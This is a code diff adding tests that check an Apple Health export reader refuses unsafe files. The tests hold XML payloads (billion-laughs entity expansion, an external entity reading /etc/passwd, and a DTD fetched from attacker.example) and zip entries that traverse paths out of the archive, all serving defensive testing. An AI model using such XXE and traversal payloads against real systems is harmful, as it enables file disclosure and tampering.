@@ -88,4 +88,26 @@ describe('readAppleHealthExport', () => {
     const bomb = exportZip(exportXml(`<!-- ${' '.repeat(4_000_000)} -->`));
     expect(await problemOf(bomb, { maxXmlBytes: 1_000_000, maxRatio: 200 })).toBe('too_large');
   });
+
+  // Each refused for what it is, so the member is told what was wrong (not that the file was cut short).
+  it('refuses a DTD that declares entities (a billion laughs, an external entity) or names an outside DTD', async () => {
+    const body = recordXml({ type: STEPS, value: 812, unit: 'count', start: '2026-11-20 08:00:00 +0000' });
+    const laughs = `<?xml version="1.0"?><!DOCTYPE HealthData [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><HealthData locale="en_GB">${body}&lol3;</HealthData>`;
+    const external = `<?xml version="1.0"?><!DOCTYPE HealthData [<!ENTITY secret SYSTEM "file:///etc/passwd">]><HealthData locale="en_GB">${body}<Note>&secret;</Note></HealthData>`;
+    const outside = `<?xml version="1.0"?><!DOCTYPE HealthData SYSTEM "http://attacker.example/health.dtd"><HealthData locale="en_GB">${body}</HealthData>`;
+    for (const xml of [laughs, external, outside]) expect(await problemOf(exportZip(xml))).toBe('unsafe_xml');
+    // Apple's own internal DTD (elements and attribute lists) is read as before.
+    expect(await problemOf(exportZip(exportXml(body)))).toBe('read');
+  });
+
+  it('refuses a zip whose entry names leave it, and one of more than 100,000 entries', async () => {
+    const xml = strToU8(exportXml(recordXml({ type: STEPS, value: 812, unit: 'count', start: '2026-11-20 08:00:00 +0000' })));
+    for (const name of ['../export.xml', 'apple_health_export/../../etc/cron.d/x', '/etc/passwd', 'C:/Windows/win.ini', 'a\\..\\b.csv']) {
+      expect(await problemOf(zipSync({ 'apple_health_export/export.xml': xml, [name]: strToU8('x') }))).toBe('unsafe_names');
+    }
+    const many: Record<string, Uint8Array> = {};
+    for (let i = 0; i <= 100_000; i += 1) many[`apple_health_export/workout-routes/route_${i}.gpx`] = new Uint8Array(0);
+    many['apple_health_export/export.xml'] = xml;
+    expect(await problemOf(zipSync(many, { level: 0 }))).toBe('too_many_files');
+  }, 60_000);
 });
